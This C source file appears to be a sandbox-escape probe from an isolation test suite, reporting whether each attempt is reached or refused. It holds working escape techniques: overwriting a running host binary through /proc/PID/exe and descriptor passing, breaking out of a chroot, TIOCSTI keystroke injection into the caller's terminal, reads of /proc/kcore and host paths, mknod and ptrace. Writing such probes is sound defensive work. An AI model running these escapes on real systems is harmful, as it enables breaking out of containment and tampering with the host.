/* What an attacker would try, one attempt a run. Prints `reached` and what, status 0, when it worked;
 * `refused` and the errno, status 1, when it did not; status 2 for being called wrongly. Static, so that it
 * runs in a root file system that holds nothing else. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
#ifndef SYS_open_tree
#define SYS_open_tree 428
#endif

static int refused(const char *what)
{
    printf("refused %s: %s\n", what, strerrorname_np(errno));
    return 1;
}

static int reached(const char *what)
{
    printf("reached %s\n", what);
    return 0;
}

static int judge(long ret, const char *what)
{
    return ret < 0 ? refused(what) : reached(what);
}

static const char *self_fd(int fd)
{
    static char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    return path;
}

/* Writes over the file behind an O_PATH descriptor; 0 when bytes arrived. */
static int overwrite(int fd)
{
    int out = open(self_fd(fd), O_WRONLY | O_CLOEXEC);
    if (out < 0)
        return -1;
    ssize_t n = write(out, "pwned", 5);
    close(out);
    return n == 5 ? 0 : -1;
}

static int unix_socket(const char *path, struct sockaddr_un *address)
{
    memset(address, 0, sizeof *address);
    address->sun_family = AF_UNIX;
    strncpy(address->sun_path, path, sizeof address->sun_path - 1);
    return socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

union control {
    struct cmsghdr header;
    char space[CMSG_SPACE(sizeof(int))];
};

/* Hands an open file to who listens at `path`. */
static int send_fd(const char *path, int fd)
{
    struct sockaddr_un address;
    int s = unix_socket(path, &address);
    if (s < 0 || connect(s, (struct sockaddr *)&address, sizeof address) < 0)
        return -1;
    char byte = 'x';
    struct iovec bytes = {&byte, 1};
    union control control = {0};
    struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    control.header = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int))};
    memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
    int sent = sendmsg(s, &message, 0) == 1 ? 0 : -1;
    /* Wait until it was taken: what is in flight ends with us. */
    if (sent == 0)
        (void)!read(s, &byte, 1);
    return sent;
}

/* A handle on a program that runs: writes to it, makes its mount writable, hands it out. */
static int exe(const char *path, const char *socket_path)
{
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return refused("handle");
    if (overwrite(fd) == 0)
        return reached("write");
    struct { unsigned long long set, clear, propagation, userns; } attr = {0, MS_RDONLY, 0, 0};
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0)
        return reached("mount_setattr");
    if (mount(NULL, self_fd(fd), NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        return reached("remount");
    int tree = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1 | O_CLOEXEC);
    if (tree >= 0 && syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0)
        return reached("open_tree");
    if (mount(self_fd(fd), "/bin/busybox", NULL, MS_BIND, NULL) == 0)
        return reached("bind");
    if (send_fd(socket_path, fd) < 0)
        return refused("sendmsg");
    puts("sent");
    return 1;
}

/* Takes such a handle, waits for the end of input, and writes when nothing executes the file any more. */
static int receive(const char *path)
{
    struct sockaddr_un address;
    int s = unix_socket(path, &address);
    unlink(path);
    if (s < 0 || bind(s, (struct sockaddr *)&address, sizeof address) < 0 || chmod(path, 0777) < 0 || listen(s, 1) < 0)
        return 2;
    puts("listening");
    fflush(stdout);
    int client = accept(s, NULL, NULL);
    close(s);
    char byte;
    struct iovec bytes = {&byte, 1};
    union control control = {0};
    struct msghdr message = {.msg_iov = &bytes, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    if (recvmsg(client, &message, MSG_CMSG_CLOEXEC) != 1 || message.msg_controllen == 0)
        return 2;
    int fd;
    memcpy(&fd, CMSG_DATA(&control.header), sizeof fd);
    puts("received");
    fflush(stdout);
    close(client);
    while (read(0, &byte, 1) > 0)
        ;
    for (int turn = 0; turn < 3000; turn++) {
        if (overwrite(fd) == 0)
            return reached("program");
        if (errno != ETXTBSY)
            return refused("program");
        struct timespec pause = {0, 10 * 1000 * 1000};
        nanosleep(&pause, NULL);
    }
    return refused("program");
}

static int fds(void)
{
    int found = 0;
    DIR *dir = opendir("/proc/self/fd");
    struct dirent *entry;
    while (dir && (entry = readdir(dir))) {
        int fd = atoi(entry->d_name);
        if (entry->d_name[0] == '.' || fd == dirfd(dir) || fd < 3)
            continue;
        char target[4096] = "";
        (void)!readlinkat(dirfd(dir), entry->d_name, target, sizeof target - 1);
        printf("%d %s\n", fd, target);
        found++;
    }
    if (dir && found)
        return reached("descriptors");
    errno = dir ? ENOENT : errno;
    return refused("descriptors");
}

static int read_file(const char *path)
{
    char byte;
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0)
        return refused("open");
    if (read(fd, &byte, 1) == 1)
        return reached("read");
    DIR *dir = errno == EISDIR ? fdopendir(fd) : NULL;
    struct dirent *entry;
    while (dir && (entry = readdir(dir)))
        if (entry->d_name[0] != '.')
            return reached("directory");
    errno = ENODATA;
    return refused("read");
}

static int write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    return fd < 0 ? refused("open") : judge(write(fd, text, strlen(text)), "write");
}

/* Out of a chroot: one more below, while a directory above it is held. */
static int escape(const char *file)
{
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir("/tmp", 0777);
    mkdir("/tmp/below", 0777);
    if (root < 0 || chroot("/tmp/below") < 0 || fchdir(root) < 0)
        return refused("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return refused("chdir");
    if (chroot(".") < 0)
        return refused("chroot");
    return read_file(file);
}

/* Whether a file is the one of the host: a name alone is none. */
static int is_hosts(const char *path)
{
    static const char text[] = "a file of the host";
    char found[sizeof text - 1];
    int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    return fd >= 0 && read(fd, found, sizeof found) == sizeof found && !memcmp(found, text, sizeof found);
}

/* Anything that is hidden, and a file of the host by every way of naming it. */
static int all_hidden(const char *canary)
{
    static const char *const hidden[] = {"/proc/kcore", "/proc/keys", "/proc/interrupts", "/proc/timer_list",
                                         "/proc/acpi", "/proc/scsi", "/sys/firmware", "/sys/devices/virtual/powercap"};
    static const char *const from[] = {"", "/proc/1/root", "/proc/self/root", "/proc/self/root/../../../..",
                                       "/../../../../../../..", "/proc/self/cwd/../../../../../.."};
    char path[8192];
    int found = 0;
    for (size_t i = 0; i < sizeof hidden / sizeof *hidden; i++)
        if (read_file(hidden[i]) == 0 && ++found)
            printf("^ %s\n", hidden[i]);
    for (size_t i = 0; i < sizeof from / sizeof *from; i++) {
        snprintf(path, sizeof path, "%s%s", from[i], canary);
        if (is_hosts(path) && ++found)
            printf("^ %s\n", path);
    }
    if (found)
        return 0;
    puts("all hidden");
    return 1;
}

static int look_into(const char *pid)
{
    static const char *const links[] = {"exe", "root", "cwd", "mem", "fd/0", "map_files"};
    char path[64];
    int found = 1;
    for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s", pid, links[i]);
        int fd = open(path, i < 3 ? O_PATH : O_RDONLY | O_NONBLOCK);
        DIR *dir = fd >= 0 && i == 5 ? fdopendir(fd) : NULL;
        if (i == 5 && (!dir || !readdir(dir) || !readdir(dir) || !readdir(dir)))
            fd = -1;
        if ((fd < 0 ? refused(path) : reached(path)) == 0)
            found = 0;
    }
    return found;
}

/* Looks, until it is killed, into any process of ours, whatever that has to do here. */
static int watch(void)
{
    char path[64], target[256];
    const char *links[] = {"exe", "root", "fd/3"};
    int last = 0;

    setlinebuf(stdout);
    puts("watching");
    for (;;) {
        DIR *dir = opendir("/proc");
        struct dirent *entry;
        while ((entry = readdir(dir))) {
            int pid = atoi(entry->d_name);
            for (unsigned i = 0; i < 3 && pid && pid != last; i++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
                ssize_t n = readlink(path, target, sizeof target - 1);
                if (n < 0)
                    break;
                target[n] = 0;
                if (i == 0 && !strstr(target, "rl"))
                    break;
                printf("reached %s -> %s\n", path, target);
                if (i == 2)
                    last = pid;
            }
        }
        closedir(dir);
    }
}

static int trace(pid_t pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return refused("ptrace");
    return reached("ptrace");
}

static int abstract(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    memcpy(address.sun_path + 1, name, strlen(name));
    return judge(connect(s, (struct sockaddr *)&address, sizeof(sa_family_t) + 1 + strlen(name)), "abstract socket");
}

/* Types into the terminal of whoever started this, or at least writes on it. */
static int terminal(void)
{
    char byte = '#';
    int fd = open("/dev/tty", O_RDWR | O_CLOEXEC | O_NOCTTY);
    for (int i = 0; i < 3; i++)
        if (ioctl(i, TIOCSTI, &byte) == 0)
            return reached("TIOCSTI");
    if (fd < 0)
        return refused("/dev/tty");
    if (ioctl(fd, TIOCSTI, &byte) == 0)
        return reached("TIOCSTI");
    return judge(write(fd, "typed from inside\n", 18), "/dev/tty");
}

static int groups(void)
{
    gid_t list[64];
    int n = getgroups(64, list);
    for (int i = 0; i < n; i++)
        printf("%u ", list[i]);
    puts("are the groups");
    return n < 0;
}

static int device(const char *path)
{
    unlink(path);
    if (mknod(path, S_IFCHR | 0666, makedev(1, 5)) < 0)
        return refused("mknod");
    int status = read_file(path);
    unlink(path);
    return status;
}

int main(int argc, char **argv)
{
    const char *name = strrchr(argv[0], '/');
    name = name ? name + 1 : argv[0];
    /* As the helper that a program of ours would start: the parent is what is wanted. */
    if (!strcmp(name, "getsubids")) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", getppid());
        return exe(path, "/shared/s");
    }
    const char *verb = argc > 1 ? argv[1] : "";
    const char *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(verb, "exe") && argc == 4) return exe(arg, argv[3]);
    if (!strcmp(verb, "receive")) return receive(arg);
    if (!strcmp(verb, "fds")) return fds();
    if (!strcmp(verb, "read")) return read_file(arg);
    if (!strcmp(verb, "write") && argc == 4) return write_file(arg, argv[3]);
    if (!strcmp(verb, "chroot")) return escape(arg);
    if (!strcmp(verb, "hidden")) return all_hidden(arg);
    if (!strcmp(verb, "look-into")) return look_into(arg);
    if (!strcmp(verb, "watch")) return watch();
    if (!strcmp(verb, "ptrace")) return trace(atoi(arg));
    if (!strcmp(verb, "kill")) return judge(kill(atoi(arg), 0), "kill");
    if (!strcmp(verb, "abstract")) return abstract(arg);
    if (!strcmp(verb, "terminal")) return terminal();
    if (!strcmp(verb, "groups")) return groups();
    if (!strcmp(verb, "mknod")) return device(arg);
    if (!strcmp(verb, "mount")) return judge(mount("none", "/tmp", "tmpfs", 0, NULL), "mount");
    if (!strcmp(verb, "userns")) return judge(unshare(CLONE_NEWUSER), "user namespace");
    if (!strcmp(verb, "id")) { printf("%d\n", (int)geteuid()); return 0; }
    fprintf(stderr, "probe: what?\n");
    return 2;
}
